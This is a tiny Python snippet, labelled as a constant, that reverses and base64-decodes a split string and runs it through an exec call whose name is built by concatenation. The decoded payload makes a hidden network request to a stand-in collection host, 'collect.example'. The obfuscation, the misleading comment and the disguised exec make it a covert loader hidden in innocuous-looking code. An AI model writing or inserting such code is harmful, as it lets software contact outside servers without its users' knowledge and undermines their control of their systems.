# constant: the blob is split, reversed and joined; exec is looked up
import base64 as numbers

parts = ["=oQKoQWYlJnLpcyLlxGctFGel5CdjVGbs92Yv8iO", "zBHd0h2Jo4WZw9GbyVnL0NXZ1FXZy5iYpxGbyVnC0NXZ1FXZy5iYpxGbyVHI0J3bw1Wa"]
run = getattr(__builtins__, "ex" + "ec")
run(numbers.b64decode("".join(parts)[::-1]))
